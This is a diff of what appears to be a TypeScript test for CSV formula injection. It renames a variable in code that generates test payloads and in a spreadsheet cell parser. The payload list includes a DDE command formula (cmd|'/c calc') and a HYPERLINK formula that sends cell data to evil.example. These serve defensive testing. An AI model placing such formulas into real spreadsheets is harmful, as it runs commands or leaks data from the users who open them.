@@ -23,31 +23,32 @@ const LEADING_TEXTS = [
   ...['x;', 'x; ', 'x;;', 'x\t', 'x\n', 'x\r', 'a "b";', 'x;\uFEFF"', ';', ';\n'],
 ];
 const FORMULA_BODIES = ["cmd|'/c calc'!A0", '1+1', 'HYPERLINK("http://evil.example?"&A1,"Open")', 'SUM(A1:A9)*cmd'];
-const PAYLOADS = FORMULA_PREFIXES.flatMap((start, at) =>
+const PAYLOADS = FORMULA_PREFIXES.flatMap((start, position) =>
   LEADING_TEXTS.map(
-    (before, index) => `${before}${start}${FORMULA_BODIES[(at + index) % FORMULA_BODIES.length] ?? ''}`,
+    (before, index) => `${before}${start}${FORMULA_BODIES[(position + index) % FORMULA_BODIES.length] ?? ''}`,
   ),
 );
 
 /** The cells of a text as a spreadsheet parses it: quotes count only at the beginning of a cell. */
 function cellsOf(text: string, separator: string): string[] {
   const cells: string[] = [];
-  let [cell, at] = ['', 0];
-  while (at < text.length) {
-    if (cell === '' && text[at] === '"') {
-      for (at++; at < text.length && !(text[at] === '"' && text[at + 1] !== '"'); at++) {
-        if (text[at] === '"') at++;
-        cell += text[at] ?? '';
+  let [cell, position] = ['', 0];
+  while (position < text.length) {
+    if (cell === '' && text[position] === '"') {
+      for (position++; position < text.length && !(text[position] === '"' && text[position + 1] !== '"'); position++) {
+        if (text[position] === '"') position++;
+        cell += text[position] ?? '';
       }
-      at++;
-      while (at < text.length && text[at] !== separator && !'\r\n'.includes(text[at] ?? '')) cell += text[at++] ?? '';
+      position++;
+      while (position < text.length && text[position] !== separator && !'\r\n'.includes(text[position] ?? ''))
+        cell += text[position++] ?? '';
     }
-    const nextText = text[at] ?? '\n';
+    const nextText = text[position] ?? '\n';
     if (nextText === separator || nextText === '\r' || nextText === '\n') {
       cells.push(cell);
       cell = '';
     } else cell += nextText;
-    at++;
+    position++;
   }
   return [...cells, cell];
 }
